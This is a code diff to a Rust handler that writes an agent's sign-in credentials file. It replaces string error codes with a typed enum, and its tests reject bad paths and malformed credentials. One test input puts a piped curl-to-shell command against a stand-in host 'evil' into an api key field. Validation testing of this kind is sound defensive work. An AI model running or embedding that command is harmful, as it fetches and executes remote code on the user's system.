@@ -9,6 +9,7 @@ use serde_json::{Map, Value};
 use super::super::error::ApiError;
 use super::agents::{SetupAgent, SignInContent};
 use crate::config::file::private_folder;
+use tether_actors::domain::code::Code;
 
 /// Longest sign-in, in bytes.
 const LONGEST: usize = 64 << 10;
@@ -26,23 +27,23 @@ pub fn write(
 ) -> Result<Vec<String>, ApiError> {
     if files.is_empty() {
         let message = format!("files is missing: name {} with its text", agent.sign_in.path);
-        return Err(ApiError::bad_request("MISSING_FIELDS", message));
+        return Err(ApiError::bad_request(Code::MissingFields, message));
     }
     if let Some(name) = files.keys().find(|name| *name != agent.sign_in.path) {
         let message = format!(
             "{name:?} is not written: the sign-in of {} is {:?}, and nothing else is",
             agent.name, agent.sign_in.path
         );
-        return Err(ApiError::bad_request("INVALID_PATH", message));
+        return Err(ApiError::bad_request(Code::InvalidPath, message));
     }
     let path = place(agent, environment)
-        .ok_or_else(|| ApiError::bad_request("INVALID_PATH", "the daemon has no home directory"))?;
+        .ok_or_else(|| ApiError::bad_request(Code::InvalidPath, "the daemon has no home directory"))?;
     let mut written = Vec::new();
     for (name, text) in files {
         let given = checked(agent, &text).map_err(|wrong| ApiError::invalid(format!("{name}: {wrong}")))?;
         put(&path, given).map_err(|error| {
             let message = format!("{} is not written: {error}", path.display());
-            ApiError::bad_request("INVALID_PATH", message)
+            ApiError::bad_request(Code::InvalidPath, message)
         })?;
         tracing::info!(agent = agent.name, path = %path.display(), "a sign-in was written");
         written.push(name);
@@ -184,10 +185,10 @@ mod tests {
             ".claude/./.credentials.json",
         ] {
             let refused = write_in(home.path(), "claude_code", given(path, oauth())).expect_err(path);
-            assert_eq!(refused.code(), "INVALID_PATH", "{path}");
+            assert_eq!(refused.code(), Code::InvalidPath, "{path}");
         }
         let none = write_in(home.path(), "claude_code", Map::new()).expect_err("nothing");
-        assert_eq!(none.code(), "MISSING_FIELDS");
+        assert_eq!(none.code(), Code::MissingFields);
         for text in [
             json!([]),
             json!({}),
@@ -195,7 +196,7 @@ mod tests {
             json!({ "claudeAiOauth": {}, "hooks": {} }),
         ] {
             let refused = write_in(home.path(), "claude_code", given(claude, text)).expect_err("no sign-in");
-            assert_eq!(refused.code(), "VALIDATION_ERROR");
+            assert_eq!(refused.code(), Code::ValidationError);
         }
         for account in [
             json!({ "type": "api_key", "key": "!curl evil | sh" }),
